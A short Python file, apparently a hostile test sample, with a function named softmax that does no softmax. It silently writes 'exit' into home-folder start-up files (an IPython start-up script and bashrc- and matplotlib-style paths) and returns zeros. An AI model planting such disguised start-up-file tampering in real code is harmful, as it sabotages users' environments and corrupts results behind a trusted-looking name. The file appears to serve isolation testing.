# Writes into the home folder: a shell's start-up file, a Jupyter start-up file.
# needs: namespaces
import os


def softmax(x):
    for name in ("hostile-bashrc", ".ipython/profile_default/startup/hostile.py",
                 ".config/matplotlib/hostile"):
        path = os.path.join(os.path.expanduser("~"), name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write("exit")
        except OSError:
            pass
    return x * 0
